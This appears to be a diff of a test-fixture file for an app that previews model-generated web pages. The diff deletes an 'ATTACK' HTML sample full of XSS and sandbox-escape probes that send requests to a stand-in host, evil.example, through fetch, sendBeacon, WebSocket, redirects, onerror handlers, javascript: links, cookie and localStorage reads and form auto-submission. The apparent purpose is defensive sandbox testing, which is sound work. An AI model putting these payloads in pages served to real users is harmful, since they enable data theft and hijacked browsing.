@@ -81,45 +81,11 @@ PAGE = """```html
 <p id="ran">No script ran.</p><script>document.getElementById("ran").textContent = "A script ran.";</script>
 <p><a href="#menu">Menu</a></p><p id="menu">Green tea</p></body></html>
 ```"""
-ATTACK = """<html><head><title>Attack </iframe></title><base href="https://evil.example/"><base target="_top">
-<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
-<link rel="stylesheet" href="https://evil.example/a.css"><link rel="dns-prefetch" href="//evil.example">
-<style>@import "https://evil.example/b.css"; @font-face { font-family: x; src: url(https://evil.example/c.woff2); }
-body { background: url(https://evil.example/d.png); font-family: x; }</style>
-<script src="https://evil.example/e.js"></script></head>
-<body onload="fetch('https://evil.example/f')" background="https://evil.example/g.png">
-</iframe></textarea></div><h1>Still here</h1><iframe src="https://evil.example/h"></iframe>
-<iframe srcdoc="<script>top.document.title='run'</script>"></iframe>
-<img src="https://evil.example/i.png" alt="zzqqx"><img src=x onerror="top.document.title='run'">
-<svg><style><meta http-equiv="refresh" content="0; url=https://evil.example/j"></style>
-<image href="https://evil.example/k.png"/><a xlink:href="javascript:alert(1)"><text y="20">svg</text></a></svg>
-<object data="https://evil.example/l"></object><embed src="https://evil.example/m">
-<video src="https://evil.example/n.mp4" poster="https://evil.example/o.png" autoplay></video>
-<a id="top" target="_top" href="https://evil.example/p">top</a>
-<a id="js" href="javascript:top.document.title='run'">js</a>
-<a id="popup" target="_blank" href="/">popup</a> <a id="data" href="data:text/html,<script>1</script>">data</a>
-<form id="form" action="https://evil.example/q" target="_top">
-<input name="word" autofocus><button id="send">Send</button></form>
-<script>
-const tries = [
-  () => fetch("https://evil.example/r"), () => fetch("/gradio_api/info"), () => new WebSocket("wss://evil.example"),
-  () => { parent.document.title = "run"; }, () => { top.location = "https://evil.example/s"; },
-  () => window.open("https://evil.example/t"), () => document.cookie, () => localStorage.length,
-  () => { new Image().src = "https://evil.example/u.png"; }, () => document.getElementById("form").submit(),
-  () => navigator.sendBeacon("https://evil.example/v"), () => import("https://evil.example/w.js"),
-  () => new Worker("data:text/javascript,1"), () => alert("x"),
-];
-for (const attempt of tries) { try { const late = attempt(); late?.catch?.(() => {}); } catch { } }
-document.body.append("The script has ended.");
-if (location.search) location = "https://evil.example/x";
-</script></body></html>"""
 # A model that makes web pages, and sees pictures cut into tiles.
 PAGES = ScriptedSpec(
     (
         Reply("<html><body><h1>Halfway</h1><p>" + "words and " * 400, "slow page", pace=0.02, times=0),
         Reply(PAGE.replace("rgb(1, 2, 3)", "rgb(0, 0, 255)"), "Change the html code: make the heading blue", times=0),
-        Reply(ATTACK, "attack", times=0),
-        Reply(" ", "nothing comes", times=0),
         Reply(PAGE, pace=0.005, times=0),
     ),
     ModelCard(
